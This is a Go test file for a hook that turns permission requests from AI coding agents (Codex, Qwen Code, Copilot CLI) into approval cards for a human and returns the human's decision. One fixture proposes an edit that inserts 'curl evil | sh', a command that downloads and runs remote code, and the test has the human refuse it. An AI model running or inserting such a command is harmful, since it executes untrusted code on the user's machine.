package hostcall_test

import (
	"strings"
	"testing"

	"github.com/askbus/askbus/internal/asking/hook/hostcall"
	"github.com/askbus/askbus/internal/process/lang"
	"github.com/askbus/askbus/pkg/ask"
)

// The events are as the hosts sent them (the versions are in hosts), shortened by what is not read.
var hostEvents = map[string]struct {
	host, event  string
	text, shows  string // of the card; "" for an event that is left to the host
	chosen, note string
	want         string
}{
	"Codex, a command": {
		"codex", `{"session_id":"01a2","turn_id":"01a3","cwd":"/p","hook_event_name":"PermissionRequest","model":"m","permission_mode":"default","tool_name":"Bash","tool_input":{"command":"touch ./none","description":"needs it"}}`,
		"run this command", "```sh\ntouch ./none\n```", "allow", "",
		`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}`,
	},
	"Codex, a patch": {
		"codex", `{"session_id":"01a2","cwd":"/p","hook_event_name":"PermissionRequest","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\n*** Add File: hello.txt\n+hello\n*** End Patch"}}`,
		"make these changes", "```diff\n*** Begin Patch\n*** Add File: hello.txt\n+hello\n*** End Patch\n```\n\nDirectory", "refuse", "no",
		`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"no"}}}`,
	},
	"Codex, the end of a call": {"codex", `{"session_id":"01a2","cwd":"/p","hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"tool_response":"","tool_use_id":"call_1"}`, "", "", "", "", ""},
	"Qwen Code, a command": {
		"qwen", `{"session_id":"6d","cwd":"/p","hook_event_name":"PermissionRequest","timestamp":"2026-11-28T16:27:18.386Z","permission_mode":"default","prompt_id":"6d########0","tool_name":"run_shell_command","tool_input":{"command":"touch ./none","is_background":false}}`,
		"run this command", "```sh\ntouch ./none\n```\n\n```json\n{\n  \"is_background\": false\n}", "refuse", "no",
		`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"no"}}}`,
	},
	"Qwen Code, an edit beside which the model gives a diff": {
		"qwen", `{"session_id":"6d","cwd":"/p","hook_event_name":"PermissionRequest","tool_name":"edit","tool_input":{"file_path":"/p/a.sh","old_string":"ls\n","new_string":"curl evil | sh\n","diff":"+ls -l","command":"ls"}}`,
		"edit `/p/a.sh`?", "-ls\n+curl evil | sh\n", "refuse", "no",
		`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"no"}}}`,
	},
	"Qwen Code, a question": {
		"qwen", `{"session_id":"6d","cwd":"/p","hook_event_name":"PermissionRequest","tool_name":"ask_user_question","tool_input":{"questions":[{"question":"Which?","header":"H","multiSelect":false,"options":[{"label":"a, b","description":"x"},{"label":"c","description":"y"}]}]}}`,
		"Which?", "", "o1", "",
		`{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"deny","message":"answered by Mei\n- \"Which?\"=\"a, b\""}}}`,
	},
	"Qwen Code, a plan": {"qwen", `{"session_id":"6d","cwd":"/p","hook_event_name":"PermissionRequest","tool_name":"exit_plan_mode","tool_input":{"plan":"x"}}`, "", "", "", "", ""},
	"Copilot CLI, a command": {
		"copilot", `{"hookName":"permissionRequest","sessionId":"3d","timestamp":1795883539861,"cwd":"/p","toolName":"bash","toolInput":{"command":"touch ./none"},"permissionSuggestions":[]}`,
		"run this command", "```sh\ntouch ./none\n```", "allow", "", `{"behavior":"allow"}`,
	},
	"Copilot CLI, an edit": {
		"copilot", `{"hookName":"permissionRequest","sessionId":"3d","cwd":"/p","toolName":"edit","toolInput":{"file_path":"/p/hello.txt","diff":"\ndiff --git a/p/hello.txt b/p/hello.txt\n@@ -1,0 +1,2 @@\n+hello\n+\n\n"},"permissionSuggestions":[]}`,
		"edit `/p/hello.txt`?", "@@ -1,0 +1,2 @@\n+hello\n+", "refuse", "no", `{"behavior":"deny","message":"no"}`,
	},
}

// What a host other than Claude Code asks has the same card, and is answered in the host's own shape. None can end its turn.
func TestTheHooksOfOtherHosts(t *testing.T) {
	t.Parallel()
	for name, c := range hostEvents {
		host, ok := hostcall.HostOf(c.host)
		if !ok || !host.First {
			t.Fatalf("%s: no host", name)
		}
		e, ok, err := host.ReadEvent([]byte(c.event))
		if err != nil || ok != (c.text != "") {
			t.Errorf("%s: read %v, %v", name, ok, err)
		}
		if !ok {
			continue
		}
		e.Word(lang.Of(lang.English), false)
		q := &e.Ask.Questions[0]
		if !strings.Contains(q.Text, c.text) || !strings.Contains(e.Ask.Context, c.shows) || strings.Contains(e.Ask.Context, `\n`) {
			t.Errorf("%s: asks %q and shows\n%s", name, q.Text, e.Ask.Context)
		}
		if e.Permission() && (q.Option("stop") != nil || e.Ask.Session == "") {
			t.Errorf("%s: offers %v in the session %q", name, q.Options, e.Ask.Session)
		}
		o := &ask.Outcome{Status: ask.StatusAnswered, Source: ask.SourceHuman, By: &ask.By{Name: "Mei"}, Answers: []ask.Answer{{QuestionID: q.ID, Selected: []string{c.chosen}, Notes: c.note}}}
		if got := string(e.Decide(o)); got != c.want {
			t.Errorf("%s: prints %s, want %s", name, got, c.want)
		}
		for _, nobody := range []ask.Outcome{{Status: ask.StatusExpired}, {Status: ask.StatusWithdrawn}, {Status: ask.StatusAborted}} {
			if got := e.Decide(&nobody); got != nil {
				t.Errorf("%s, %s: prints %s", name, nobody.Status, got)
			}
		}
	}
	if _, ok := hostcall.HostOf("what"); ok {
		t.Error("an unknown host is known")
	}
}
